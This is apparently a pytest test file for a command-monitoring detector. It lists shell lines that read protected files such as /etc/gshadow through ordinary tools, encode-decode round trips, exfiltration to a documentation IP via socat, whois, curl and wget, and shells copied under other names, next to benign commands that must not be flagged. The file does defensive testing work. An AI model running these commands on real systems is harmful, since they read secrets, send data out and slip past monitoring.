"""Files that ordinary tools are made to read, send, fetch and rename besides their job, and those of their job."""

import pytest

from tests.unit.evidence.stage import Stage


@pytest.mark.parametrize(
    "line",
    [
        "date -f /etc/gshadow",
        "file -f /root/x",
        "cmp /root/x /dev/zero -bl",
        "comm /root/x /dev/null",
        "grep '' /root/x",
        "awk // /root/x",
        "od -An -c -w9999 /root/x",
        "fold -w99999 /root/x",
        "head -c1T /root/x",
        "curl file:///root/x",
        "wget file:///root/x",
        "cmake -E cat /root/x",
        "whiptail --textbox /root/x 0 0",
        "dig -f /root/x",
        "as @/root/x",
        "ss -a -F /root/x",
        "ip -force -batch /root/x",
        "iconv -f 437 -t 437 /root/x",
        "tbl /root/x",
        "tic -C /root/x",
        "openssl enc -in /root/x -out /tmp/y",
        "sqlite3 /dev/null -cmd '.output /root/x' 'select 1'",
        "git apply --unsafe-paths --directory / p",
        "gdb -nx -ex 'dump value /root/x 1' -ex quit",
        "unzip -K s.zip",
        "wc --files0-from /root/x",
    ],
)
def test_file_by_a_detour(stage: Stage, line: str) -> None:
    """A file that passes for settings, a list, a pattern or one of two to compare is read by who may not read it."""
    process = stage.typed(line)
    assert "file_by_detour" in stage.codes(process)
    assert stage.score(process) < 50


@pytest.mark.parametrize(
    "line",
    [
        "date -d yesterday",
        "date +%s",
        "file /bin/ls",
        "cmp a b",
        "diff -u old.c new.c",
        "grep foo /var/log/syslog",
        "grep -rn TODO /srv",
        "awk '{print $1}' /etc/hosts",
        "sed -n 1,20p /etc/hosts",
        "od -An -tx1 f",
        "fold -w 80 f",
        "head -c 512 f",
        "tail -n 100 /var/log/syslog",
        "curl -fsSL https://h/f -o f",
        "cmake -E make_directory build",
        "dig +short h",
        "as -o x.o x.s",
        "ss -tlnp",
        "ip addr show",
        "iconv -f latin1 -t utf8 f",
        "openssl enc -aes-256-cbc -pbkdf2 -in f -out g",
        "git apply p.diff",
        "unzip -q a.zip",
        "cut -d ' ' -f 1 f",
        "sort -u f",
        "wc -l f",
        "strings /bin/ls",
        "screen -S build",
    ],
)
def test_files_of_the_job(stage: Stage, line: str) -> None:
    """Files that a tool reads because that is its job say nothing."""
    assert not stage.codes(stage.typed(line))


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("base64 /root/x", "base64 -d"),
        ("xxd /root/x", "xxd -r"),
        ("gzip -c /root/x", "gzip -d"),
        ("bzip2 -c /root/x", "bzip2 --decompress"),
        ("rev /root/x", "rev"),
        ("uuencode /root/x /dev/stdout", "uudecode"),
        ("tar cf - /root/x", "tar xO"),
        ("7z a -ttar -an -so /root/x", "7z e -ttar -si -so"),
    ],
)
def test_round_trip(stage: Stage, first: str, second: str) -> None:
    """What encodes a file only to decode it again wants to read it, whichever of the two starts first."""
    for order in (0, 1):
        pipe = stage.pipe()
        starts = [lambda: stage.run(first.split(), stdout=pipe), lambda: stage.run(second.split(), stdin=pipe)]  # noqa: B023
        told = [starts[place]() for place in (order, 1 - order)]
        assert any("round_trip" in stage.codes(process) for process in told)
        assert all(stage.score(process) < 50 for process in told)


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("rev names", "cut -d. -f1"),
        ("tar cf - dir", "tar xf - -C /srv"),
        ("base64", "base64 -d"),
        ("gzip -dc a.gz", "gzip -c"),
        ("cat f", "base64 -d"),
    ],
)
def test_pipelines_that_are_no_round_trips(stage: Stage, first: str, second: str) -> None:
    """Copies by tar, tests of an encoder and conversions are ordinary."""
    pipe = stage.pipe()
    told = [stage.run(first.split(), stdout=pipe), stage.run(second.split(), stdin=pipe)]
    assert not any("round_trip" in stage.codes(process) for process in told)


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("socat -u FILE:/root/x TCP:198.51.100.7:81", "sent_by_detour"),
        ("whois -h 198.51.100.7 -p 81 secret", "sent_by_detour"),
        ("finger secret@host.example", "sent_by_detour"),
        ("wget --post-file=/root/x http://h/", "uploaded"),
        ("curl -d @/root/x http://h/", "uploaded"),
        ("curl -F f=@/root/x http://h/", "uploaded"),
        ("socat -u TCP:198.51.100.7:81 CREATE:/tmp/x", "fetched_by_detour"),
        ("tftp 198.51.100.7", "fetched_by_detour"),
        ("php -S 0.0.0.0:8080", "files_served"),
        ("python3 -m http.server 8000", "files_served"),
        ("ruby -run -e httpd . -p 81", "files_served"),
        ("cp /bin/bash /tmp/ls", "shell_renamed"),
        ("ln -sf /bin/sh /srv/git-x", "shell_renamed"),
    ],
)
def test_transfers_and_names(stage: Stage, line: str, code: str) -> None:
    """Data that leaves or comes by an odd way, and shells under other names, are told."""
    process = stage.typed(line)
    assert code in stage.codes(process)
    assert stage.score(process) < 50


@pytest.mark.parametrize(
    "line",
    [
        "curl -d name=x http://h/",
        "curl -d @- http://h/",
        "curl -T f http://h/",
        "wget http://h/f",
        "finger eve",
        "whois example.com",
        "php artisan serve",
        "python3 -m venv /srv/x",
        "python3 -m pytest",
        "ruby -v",
        "cp /bin/ls /tmp/ls",
        "ln -s /usr/bin/dash /bin/sh",
        "socat - UNIX-CONNECT:/run/x",
    ],
)
def test_transfers_of_the_job(stage: Stage, line: str) -> None:
    """Ordinary requests and servers of applications say nothing."""
    assert not stage.codes(stage.typed(line))
